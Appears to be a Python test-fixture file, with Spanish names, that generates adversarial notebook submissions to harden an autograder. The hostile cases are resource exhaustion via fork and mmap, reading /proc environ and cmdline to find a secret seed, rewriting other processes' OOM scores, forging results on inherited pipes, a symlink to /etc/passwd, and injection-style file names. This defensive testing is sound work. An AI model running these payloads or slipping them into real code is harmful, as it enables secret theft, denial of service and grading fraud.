            "carpetas_cerradas",
            """
            import os
            for number in range(200):
                try:
                    os.mkdir(f'c{number}'); os.mkdir(f'c{number}/dentro'); os.chmod(f'c{number}', 0)
                except OSError: break
            """,
            ANY,
        ),
        cell(
            "memoria_compartida",
            """
            import mmap, os
            shared = mmap.mmap(-1, 400 << 20)
            for _ in range(6):
                try:
                    if os.fork() == 0:
                        other = mmap.mmap(-1, 400 << 20); other.write(b'x' * (400 << 20))
                        os._exit(0)
                except (OSError, MemoryError): pass
            """,
            ANY,
        ),
        answer(
            "busca_la_semilla",
            """
            import glob
            def count_pairs(*a):
                for name in glob.glob('/proc/[0-9]*/cmdline') + glob.glob('/proc/[0-9]*/environ'):
                    try: text = open(name, 'rb').read()
                    except OSError: continue
                    if b'secreta' in text: return good(*a)
                return 0
            """,
            before=HELPED,
        ),
        cell("oom", """
            import glob
            for name in glob.glob('/proc/[0-9]*/oom_score_adj') + glob.glob('/proc/[0-9]*/comm'):
                try: open(name, 'w').write('-1000')
                except OSError: pass
            """),
    ]  # fmt: skip


WIRE = """
import json, os, stat, struct
def send(*messages):
    for fd in range(3, 64):
        try:
            if not stat.S_ISFIFO(os.fstat(fd).st_mode): continue
            for message in messages:
                text = message if isinstance(message, bytes) else json.dumps(message).encode()
                os.write(fd, struct.pack('>I', len(text)) + text)
        except OSError: pass
def outcomes(value): return {'state': 'ok', 'outcomes': [{'tuple': [value, None, False]}] * 4}
"""


def on_the_wire() -> list[Case]:
    """Respuestas escritas a mano en el cable: lo que dicen no puede costarle al juez más que leerlas."""
    values = {
        "mil_millones_de_filas": "{'array': ['<f8', [2**30, 0], '']}",
        "filas_de_nada": "[{'array': ['<f8', [2**22, 0], '']}] * 20000",
        "textos_desparejos": "['a'] * 20000 + ['b' * 60000]",
        "textos_en_lista": "[['a'] * 200] * 90 + [['b' * 90000] * 1]",
        "listas_vacias": "[[]] * 300000",
        "claves_iguales": "{'dict': [[{'tuple': [0] * 30}, 1]] * 4900}",
        "entero_larguisimo": "10 ** 4000",
        "hondo": "json.loads('[' * 900 + ']' * 900)",
    }
    return [
        cell(
            f"cable_{name}",
            f"{WIRE}\nbad = outcomes({value})\nsend({{'cells': []}}, *[bad] * 6)\nos._exit(0)",
            ANY,
            dict.fromkeys(POINTS, ANY),
            first=True,
        )
        for name, value in values.items()
    ]


def skeleton() -> bytes:
    return nbformat.writes(jupytext.read(ROOT / "exercises" / f"{SET}.md")).encode()


def old_format() -> bytes:
    cells = [
        {
            "cell_type": "code",
            "collapsed": False,
            "input": source.splitlines(keepends=True),
            "language": "python",
            "metadata": {},
            "outputs": [],
        }
        for source in answers()
    ]
    book = {"metadata": {"name": ""}, "nbformat": 3, "nbformat_minor": 0}
    return json.dumps(book | {"worksheets": [{"cells": cells, "metadata": {}}]}).encode()


def files() -> list[Case]:
    good = notebook(answers())
    data = json.loads(good)

    def broken(name, content, says, state=UNREADABLE):
        return Case(name, content, state, dict.fromkeys(POINTS, ""), says=says)

    return [
        Case("version_3", old_format()),
        Case("con_bom", b"\xef\xbb\xbf" + good),
        Case(
            "fuentes_en_texto",
            json.dumps(
                data | {"cells": [c | {"source": "".join(c["source"])} for c in data["cells"]]}
            ).encode(),
        ),
        Case("version_futura", json.dumps(data | {"nbformat": 9, "nbformat_minor": "x"}).encode()),
        Case(
            "celdas_de_relleno",
            json.dumps(
                data
                | {
                    "cells": [
                        None,
                        3,
                        {},
                        {"cell_type": "code", "source": 7},
                        {"cell_type": 4},
                        *data["cells"],
                    ]
                }
            ).encode(),
        ),
        Case(
            "veinte_mil_celdas",
            json.dumps(
                data | {"cells": data["cells"] + [{"cell_type": "code", "source": "1"}] * 20_000}
            ).encode(),
        ),
        broken("vacio", b"", "vacío"),
        broken("espacios", b"  \n", "vacío"),
        broken("cortado", good[: len(good) // 2], "cortado"),
        broken("es_html", b"<!DOCTYPE html><html><body>Sign in</body></html>", "no es un cuaderno"),
        broken("es_binario", bytes(range(256)) * 10, "UTF-8"),
        broken("utf_16", good.decode().encode("utf-16"), "UTF-8"),
        broken("es_lista", b"[1, 2]", "no es un cuaderno"),
        broken("sin_celdas", b'{"nbformat": 4}', "celdas"),
        broken("celdas_raras", b'{"nbformat": 4, "cells": {"a": 1}}', "celdas"),
        broken("anidado", b"[" * 100_000, "no es un cuaderno"),
        broken("version_3_rota", b'{"nbformat": 3, "worksheets": [3, {"cells": "x"}]}', "antiguo"),
        broken("numero_enorme", b'{"cells": ' + b"9" * 10_000 + b"}", "no es un cuaderno"),
        broken("enorme", b'{"cells": "' + b"x" * (21 << 20) + b'"}', "MB"),
        broken("demasiado_codigo", notebook(["x = 1 # " + "x" * (3 << 20)]), "código"),
        broken(
            "sin_codigo",
            nbformat.writes(
                nbformat.v4.new_notebook(cells=[nbformat.v4.new_markdown_cell("hola")])
            ).encode(),
            "no tiene código",
            "sin intentar",
        ),
        broken("enlace", lambda path: path.symlink_to("/etc/passwd"), "no se puede abrir"),
        broken(
            "enlace_a_otro",
            lambda path: path.symlink_to(sorted(path.parent.iterdir())[0]),
            "no se puede abrir",
        ),
        broken("tuberia", lambda path: os.mkfifo(path), "corriente"),
        broken("carpeta_vacia", lambda path: path.mkdir(), "ningún cuaderno"),
    ]


def strange_names() -> list[Case]:
    good = notebook(answers())
    names = (
        "<script>alert(1)<",
        "=1+1",
        "con\nsalto",
        "\x1b[31mrojo",
        "..",
        "ñandú 'x' \"y\"",
        "a" * 200,
        "\udcff\udcfe",
    )
    return [Case(f"nombre {name}", good) for name in names]


def innocents() -> list[Case]:
    """Tres alumnos corrientes, de distinta nota."""
    half = {
        "ppmi": "def ppmi(counts): return counts",
        "contar": "def count_pairs(sentences, window):\n    return {}",
    }
    return [
        Case("inocente perfecta", notebook(answers())),
        Case(
            "inocente a medias",
            notebook(answers(**half)),
            "ok",
            {"ppmi": "incorrecto", "contar": "incorrecto"},
        ),
        Case(
            "inocente en blanco", skeleton(), "sin intentar", dict.fromkeys(POINTS, "sin intentar")
        ),
    ]


def all_cases(port: int, start: int = 0, step: int = 1) -> list[Case]:
    """Los que van contra los demás y, de los otros, uno de cada tantos; un inocente tras cada cuatro."""
    others = [
        *loops(),
        *crashes(),
        *greed(),
        *leftovers(port),
        *cheats(),
        *strange_values(),
        *sabotage(),
        *ordinary(),
        *files(),
        *strange_names(),
    ]
    # Mezclados, para que a cada uno le toquen al lado otros.
    hostile, rest = [], others[start::step]
    against = [*against_others(), *honest(), *(on_the_wire() if step == 1 else [])]
    for number, case in enumerate(rest):
        hostile.append(case)
        hostile += against[number::len(rest)]
    cases, quiet = [], innocents()
    for number, case in enumerate(hostile):
        cases.append(case)
        if number % 4 == 3:
            cases.append(quiet[number // 4 % len(quiet)])
    return cases


def write(folder: Path, cases: list[Case]) -> dict[str, Case]:
    """Escribe las entregas; de cada nombre de archivo, su caso."""
    folder.mkdir(parents=True, exist_ok=True)
    written = {}
    for number, case in enumerate(cases):
        name = f"{number:03} {case.name}.ipynb"
        path = folder / name
        if callable(case.content):
            case.content(path)
        else:
            path.write_bytes(case.content)
        written[name.encode("utf-8", "backslashreplace").decode()] = case
    return written


if __name__ == "__main__":
    target = Path(sys.argv[1])
    print(f"{len(write(target, all_cases(port=9)))} entregas en {target}")
